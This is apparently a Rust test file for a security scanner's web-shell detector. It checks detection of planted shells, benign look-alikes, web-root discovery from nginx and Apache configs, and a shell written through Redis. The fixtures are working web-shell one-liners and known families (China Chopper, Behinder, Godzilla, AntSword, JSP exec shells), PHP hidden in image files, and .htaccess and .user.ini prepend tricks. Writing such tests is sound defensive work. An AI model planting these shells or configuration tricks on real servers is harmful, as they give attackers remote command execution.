//! Web shells: planted shells of the common families (written here, short and defanged: the
//! passwords and keys are the tools' public defaults, nothing connects anywhere), the web-root
//! pass over a fixture host, and stock PHP and JSP applications from Debian (downloaded with
//! `apt-get download`; skipped with a printed reason when that fails).

use crate::common::*;
use ferret_core::Severity;
use ferret_scan::webshell::{
    detect, kind_of, read_plan, roots_from_config, MEDIA_HEAD, MEDIA_TAIL,
};
use ferret_scan::{Check, ScanOptions};
use std::fmt::Write as _;
use std::path::Path;

/// Padding of ordinary code, so a shell is not a one-liner.
fn padded(shell: &str) -> String {
    let mut s = String::from("<?php\n/* Template helpers. */\n");
    for i in 0..80 {
        let _ = writeln!(
            s,
            "function helper_{i}($a) {{ return htmlspecialchars($a . '{i}'); }}"
        );
    }
    s.push_str(shell);
    s.push('\n');
    s
}

/// (file name, content, least severity, a signal that must be among the detection's).
fn planted() -> Vec<(&'static str, String, Severity, &'static str)> {
    vec![
        // China Chopper, PHP and ASP/ASPX (FireEye 2013).
        ("c.php", "<?php @eval($_POST['chopper']);?>".into(), Severity::Critical, "eval-request"),
        ("c.asp", r#"<%eval request("chopper")%>"#.into(), Severity::Critical, "asp-eval-request"),
        (
            "c.aspx",
            r#"<%@ Page Language="Jscript"%><%eval(Request.Item["chopper"],"unsafe");%>"#.into(),
            Severity::Critical,
            "asp-eval-request",
        ),
        // A command runner hidden in a longer file.
        ("tools.php", padded("if (isset($_GET['c'])) { echo '<pre>' . shell_exec($_GET['c']) . '</pre>'; }"), Severity::High, "exec-request"),
        // Through a variable.
        ("t2.php", padded("$cmd = $_POST['cmd'];\n$out = array();\nsystem($cmd);"), Severity::High, "sink-request-variable"),
        ("t3.php", padded("$f = $_REQUEST['f'];\n$f($_REQUEST['a']);"), Severity::High, "variable-function-request"),
        ("t4.php", padded("$_GET['f']($_GET['a']);"), Severity::High, "variable-function-request"),
        ("t5.php", padded(r#"preg_replace("/.*/e", $_POST['code'], "");"#), Severity::High, "preg-e-request"),
        ("t6.php", padded("$f = create_function('', $_POST['body']); $f();"), Severity::High, "create-function-request"),
        ("t7.php", padded("call_user_func($_GET['fn'], $_GET['arg']);"), Severity::High, "callback-request"),
        ("t8.php", padded("echo `$_GET[c]`;"), Severity::High, "backtick-request"),
        // Decoder chains into eval (the payload is the base64 of "echo 1;").
        ("t9.php", padded("eval(gzinflate(str_rot13(base64_decode('ZWNobyAxOw=='))));"), Severity::High, "eval-decoded"),
        // AntSword's documented shell: assert in base64.
        ("ant.php", r#"<?php $ant=base64_decode("YXNzZXJ0"); $ant($_POST['ant']); ?>"#.into(), Severity::Critical, "encoded-function-name"),
        ("rot.php", padded("$x = str_rot13('nffreg');\n$x(stripslashes($_REQUEST['z']));"), Severity::High, "rot13-function-name"),
        ("hex.php", padded(r#"$x = "\x61\x73\x73\x65\x72\x74"; $x($_POST['z']);"#), Severity::High, "hex-function-name"),
        ("split.php", padded("$x = 'as'.'sert'; $x($_POST['z']);"), Severity::High, "split-function-name"),
        // Behinder (PHP): default key, the body decrypted and evaluated.
        (
            "behinder.php",
            "<?php\n@error_reporting(0);\nsession_start();\n$key=\"e45e329feb5d925b\";\n$_SESSION['k']=$key;\n\
             $post=file_get_contents(\"php://input\");\n$post=openssl_decrypt($post, \"AES128\", $key);\n\
             $arr=explode('|',$post);\n$p=$arr[1];\nclass C{public function __invoke($p) {eval($p.\"\");}}\n\
             @call_user_func(new C(),$p);\n?>\n"
                .into(),
            Severity::Critical,
            "behinder-key",
        ),
        // The same without the default key: the structure alone.
        (
            "b2.php",
            padded("$k = substr(md5($_SERVER['HTTP_X_ID']), 0, 16);\n$d = openssl_decrypt(file_get_contents('php://input'), 'AES128', $k);\n\
             $parts = explode('|', $d);\neval($parts[1]);"),
            Severity::Critical,
            "encrypted-eval-channel",
        ),
        // Godzilla (PHP): its XOR loop and default key.
        (
            "gz.php",
            "<?php\n@session_start();\n@set_time_limit(0);\n$pass='pass';\n$payloadName='payload';\n$key='3c6e0b8a9c15224a';\n\
             function encode($D,$K){\n    for($i=0;$i<strlen($D);$i++) {\n        $c = $K[$i+1&15];\n        $D[$i] = $D[$i]^$c;\n    }\n    return $D;\n}\n"
                .into(),
            Severity::Critical,
            "godzilla-xor",
        ),
        // JSP: command from a parameter, directly and through a variable.
        (
            "cmd.jsp",
            "<%@ page import=\"java.io.*\" %>\n<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n".into(),
            Severity::Critical,
            "jsp-exec-request",
        ),
        (
            "cmd2.jsp",
            "<%@ page import=\"java.io.*\" %>\n<%\nString c = request.getParameter(\"c\");\nif (c != null) {\n  Process p = Runtime.getRuntime().exec(c);\n  InputStream in = p.getInputStream();\n}\n%>\n".into(),
            Severity::High,
            "sink-request-variable",
        ),
        // Behinder JSP: a ClassLoader subclass defining the AES-decrypted body.
        (
            "shell.jsp",
            "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%>\n\
             <%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>\n\
             <%if (request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);\
             Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));\
             new U(this.getClass().getClassLoader()).g(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);}%>\n"
                .into(),
            Severity::Critical,
            "jsp-encrypted-classloader",
        ),
        // PHP in an image: a GIF89a-prefixed shell, and plain PHP in a .jpg.
        ("avatar.gif", "GIF89a\x01\x00\x01\x00<?php eval($_POST['x']); ?>".into(), Severity::Critical, "eval-request"),
        ("logo.jpg", "\u{ff}\u{d8}\u{ff}\u{e0}JFIF<?php phpinfo(); ?>".into(), Severity::Medium, "php-in-data-file"),
        // .htaccess and .user.ini tricks.
        (".htaccess", "AddType application/x-httpd-php .jpg .png\n".into(), Severity::High, "handler-maps-data-to-php"),
        (".htaccess", "<FilesMatch \"\\.(gif)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n".into(), Severity::High, "handler-maps-data-to-php"),
        (".user.ini", "open_basedir=/www/wwwroot/site/:/tmp/\nauto_prepend_file=upload/1.gif\n".into(), Severity::High, "auto-prepend"),
        (".htaccess", "php_value auto_prepend_file \"php://input\"\n".into(), Severity::Critical, "auto-prepend"),
        // CGI.
        ("x.cgi", "#!/usr/bin/perl\nuse CGI qw(param);\nprint \"Content-type: text/plain\\n\\n\";\nsystem(param('cmd'));\n".into(), Severity::High, "cgi-exec-request"),
    ]
}

#[test]
fn planted_shells_are_detected() {
    for (name, body, least, signal) in planted() {
        let d = detect(name.as_bytes(), body.as_bytes())
            .unwrap_or_else(|| panic!("{name}: not detected:\n{body}"));
        assert!(
            d.severity >= least,
            "{name}: {:?} < {least:?}: {d:#?}",
            d.severity
        );
        assert!(
            d.signals.iter().any(|s| s.name == signal),
            "{name}: no {signal}: {d:#?}"
        );
        // Every signal with a line points at a line holding its excerpt.
        let lines: Vec<&[u8]> = body.as_bytes().split(|b| *b == b'\n').collect();
        for s in d.signals.iter().filter(|s| s.line > 0) {
            let line = lines[(s.line - 1) as usize];
            assert!(
                line.windows(s.excerpt.len())
                    .any(|w| w == s.excerpt.as_slice()),
                "{name}: {} line {} does not hold {:?}",
                s.name,
                s.line,
                String::from_utf8_lossy(&s.excerpt)
            );
        }
    }
}

#[test]
fn ordinary_code_is_not_a_shell() {
    let benign: &[(&str, &str)] = &[
        // A template engine evaluating its own compiled output.
        ("tpl.php", "<?php $code = $this->compile($tpl); eval('?>' . $code);\n"),
        // Request input used as data, not code.
        ("form.php", "<?php $name = trim($_POST['name']); echo htmlspecialchars($name); $db->exec('UPDATE t SET n=' . $db->quote($_POST['n']));\n"),
        // exec of a constant command; a method named exec on request data.
        ("cron.php", "<?php exec('/usr/bin/php ' . escapeshellarg(__DIR__ . '/job.php'), $out); $stmt->exec($_GET['x']);\n"),
        // preg_replace without /e.
        ("re.php", "<?php $s = preg_replace('/\\s+/', ' ', $_POST['text']);\n"),
        // BT-Panel's own .user.ini, Wordfence's prepend, the usual PHP-FPM mapping.
        (".user.ini", "open_basedir=/www/wwwroot/site/:/tmp/\n"),
        (".user.ini", "auto_prepend_file = '/var/www/html/wordfence-waf.php'\n"),
        (".htaccess", "<FilesMatch \\.php$>\n  SetHandler application/x-httpd-php\n</FilesMatch>\nAddType application/x-httpd-php .php .phtml\n"),
        // An image without PHP, a text file mentioning PHP in prose.
        ("a.png", "\u{89}PNG\r\n\u{1a}\n...IDAT..."),
        ("notes.txt", "Install with <?php echo 'hello'; ?> in index.php\n"),
        // JSP reading a parameter into a page, not a command.
        ("hello.jsp", "<% String n = request.getParameter(\"n\"); out.println(n == null ? \"\" : n.length()); %>\n"),
    ];
    for (name, body) in benign {
        let d = detect(name.as_bytes(), body.as_bytes());
        assert!(d.is_none(), "{name}: {d:#?}");
    }
    // Static files are not even read.
    assert_eq!(kind_of(b"app.js"), None);
    assert_eq!(
        read_plan(kind_of(b"big.jpg").unwrap(), 10 << 20, 1 << 20),
        Some((MEDIA_HEAD, MEDIA_TAIL))
    );
}

#[test]
fn config_roots() {
    let nginx = b"http {\n  server {\n    listen 80;\n    root   /www/wwwroot/shop.example;  # BT-Panel\n    location /x { root $document_root/x; }\n  }\n  server { root html; }\n}\n";
    assert_eq!(
        roots_from_config(nginx),
        vec![b"/www/wwwroot/shop.example".to_vec()]
    );
    let apache = b"<VirtualHost *:80>\n    DocumentRoot \"/data/web/site/\"\n</VirtualHost>\n";
    assert_eq!(roots_from_config(apache), vec![b"/data/web/site".to_vec()]);
}

/// A host: nginx names a web root outside the usual places; a shell sits among old uploads,
/// another in BT-Panel's root with a `.user.ini` prepend; a clean WordPress-like root beside.
#[test]
fn web_roots_of_a_host_are_scanned() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    write(
        r,
        "etc/passwd",
        "root:x:0:0::/root:/bin/bash\nwww:x:1001:1001::/home/www:/sbin/nologin\n",
        0o644,
    );
    write(
        r,
        "etc/nginx/conf.d/shop.conf",
        "server {\n  server_name shop;\n  root /data/shop/public;\n}\n",
        0o644,
    );
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(400 * 86_400);
    for i in 0..4 {
        let p = format!("data/shop/public/uploads/img{i}.png");
        write(r, &p, "\u{89}PNG\r\n\u{1a}\nplain", 0o644);
        let f = std::fs::File::options()
            .write(true)
            .open(r.join(&p))
            .unwrap();
        f.set_modified(old).unwrap();
    }
    write(
        r,
        "data/shop/public/uploads/conf.php",
        padded("system($_GET['c']);"),
        0o644,
    );
    write(
        r,
        "data/shop/public/index.php",
        "<?php require __DIR__ . '/../app.php'; run($_GET);\n",
        0o644,
    );
    write(
        r,
        "www/wwwroot/site/.user.ini",
        "open_basedir=/www/wwwroot/site/:/tmp/\nauto_prepend_file=/www/wwwroot/site/static/a.ico\n",
        0o644,
    );
    write(
        r,
        "www/wwwroot/site/static/a.ico",
        "\0\0\u{1}\0<?php @eval($_POST['p']);?>",
        0o644,
    );
    write(r, "var/www/html/wp-login.php", "<?php\nrequire __DIR__ . '/wp-load.php';\n$action = isset($_REQUEST['action']) ? $_REQUEST['action'] : 'login';\n", 0o644);
    let mut o = ScanOptions::default();
    o.checks = vec![Check::WebShell];
    let rep = scan(r, &o);
    assert!(rep.outcome.errors.is_empty(), "{:#?}", rep.outcome.errors);
    assert_eq!(
        rep.stats.web_roots,
        ["/data/shop/public", "/var/www", "/www/wwwroot"],
        "{:?}",
        rep.stats
    );
    assert_eq!(rep.stats.web_files, 9, "{:?}", rep.stats);
    let got: Vec<(&str, &str, Severity)> = rep
        .outcome
        .findings
        .iter()
        .map(|f| (f.subject.as_str(), f.id.as_str(), f.severity))
        .collect();
    assert_eq!(
        got,
        [
            (
                "/data/shop/public/uploads/conf.php",
                "scan.webshell",
                Severity::Critical
            ),
            (
                "/www/wwwroot/site/static/a.ico",
                "scan.webshell",
                Severity::Critical
            ),
            (
                "/www/wwwroot/site/.user.ini",
                "scan.webshell-config",
                Severity::Critical
            ),
        ],
        "{:#?}",
        rep.outcome.findings
    );
    let shell = &rep.outcome.findings[0];
    assert_eq!(shell.attack, ["T1505.003"]);
    let detail = shell.detail.as_deref().unwrap();
    assert!(
        detail.contains("newer than its 4 neighbours by 400 day(s)"),
        "{detail}"
    );
    assert!(
        detail.contains("modified 0 day(s) before the scan"),
        "{detail}"
    );
    // Evidence: the file and the line, escaped and cut.
    let ev = &shell.evidence[1];
    assert_eq!(ev.line, Some(83));
    assert_eq!(ev.excerpt.as_deref(), Some("system($_GET['c']);"));
    // Owned by the web server user in a root owned by root: only root can plant that here.
    if nix::unistd::geteuid().is_root() {
        let p = r.join("data/shop/public/uploads/conf.php");
        std::os::unix::fs::chown(&p, Some(1001), Some(1001)).unwrap();
        let rep = scan(r, &o);
        let f = rep
            .outcome
            .findings
            .iter()
            .find(|f| f.subject.ends_with("conf.php"))
            .unwrap();
        assert!(
            f.detail
                .as_deref()
                .unwrap()
                .contains("owned by the web server user www in a web root owned by uid 0"),
            "{f:#?}"
        );
    } else {
        eprintln!("skipped the web-server-owner case: chown needs root");
    }
    // Off with the check.
    o.checks = vec![Check::Placement];
    assert!(scan(r, &o).outcome.findings.is_empty());
}

/// Downloads (once, into the target directory) and unpacks Debian packages
/// (`ferret_testkit::debs::unpack`); a package apt cannot fetch is skipped with a printed reason, `None`
/// when none could be had.
fn debian_packages(names: &[&str]) -> Option<tempfile::TempDir> {
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("webshell-debs");
    let out = tempfile::tempdir().ok()?;
    if ferret_testkit::debs::unpack(names, &cache, out.path()) == 0 {
        eprintln!("skipped: none of {names:?} could be downloaded");
        return None;
    }
    Some(out)
}

/// Stock PHP and JSP applications: WordPress, phpMyAdmin, Roundcube and Tomcat's JSP examples
/// (Debian 12's packages, downloaded by the test). Every server-side file the web-root pass
/// would read is given to the detector; the findings must be exactly the documented ones.
#[test]
fn stock_applications_are_clean() {
    let Some(tree) = debian_packages(&[
        "wordpress",
        "phpmyadmin",
        "roundcube-core",
        "tomcat10-examples",
    ]) else {
        return;
    };
    let mut files = 0usize;
    let mut found: Vec<String> = Vec::new();
    let mut stack = vec![tree.path().to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let ft = e.file_type().unwrap();
            if ft.is_dir() {
                stack.push(e.path());
                continue;
            }
            if !ft.is_file() {
                continue;
            }
            let name = e.file_name();
            let name = std::os::unix::ffi::OsStrExt::as_bytes(name.as_os_str()).to_vec();
            let Some(kind) = kind_of(&name) else { continue };
            let size = e.metadata().unwrap().len();
            let Some((head, _)) = read_plan(kind, size, 1 << 20) else {
                continue;
            };
            let data = std::fs::read(e.path()).unwrap();
            let data = &data[..(head as usize).min(data.len())];
            files += 1;
            if let Some(det) = detect(&name, data) {
                let rel = e
                    .path()
                    .strip_prefix(tree.path())
                    .unwrap()
                    .display()
                    .to_string();
                found.push(format!(
                    "{rel}: {:?} {:?}",
                    det.severity,
                    det.signals.iter().map(|s| s.name).collect::<Vec<_>>()
                ));
            }
        }
    }
    found.sort();
    eprintln!("{files} files of stock applications read");
    assert!(
        files > 1000,
        "{files} files: the packages did not unpack as expected"
    );
    assert!(found.is_empty(), "{found:#?}");
}

/// A web shell written through an exposed Redis (`CONFIG SET dir /var/www/html`,
/// `CONFIG SET dbfilename x.php`, `SAVE`): the file is an RDB dump with the PHP between
/// binary framing (bytes as Redis 7.0 writes them, `ferret_testkit::redis`).
#[test]
fn redis_written_shell() {
    let dump = ferret_testkit::redis::rdb_dump(&[(b"x", b"\n\n<?php @eval($_POST['c']);?>\n\n")]);
    let d = ferret_scan::webshell::detect(b"x.php", &dump).unwrap();
    assert_eq!(d.severity, Severity::Critical);
    assert_eq!(d.signals[0].name, "redis-rdb-dump");
    assert!(
        d.signals.iter().any(|s| s.name != "redis-rdb-dump"),
        "{:?}",
        d.signals
    );
    // Named as an image, it is still PHP in a dump.
    let d = ferret_scan::webshell::detect(b"logo.jpg", &dump).unwrap();
    assert_eq!(d.severity, Severity::Critical);
    // A dump of ordinary data in a web root is no shell.
    let plain = ferret_testkit::redis::rdb_dump(&[(b"session:1", b"user=alice")]);
    assert!(ferret_scan::webshell::detect(b"dump.php", &plain).is_none());
}
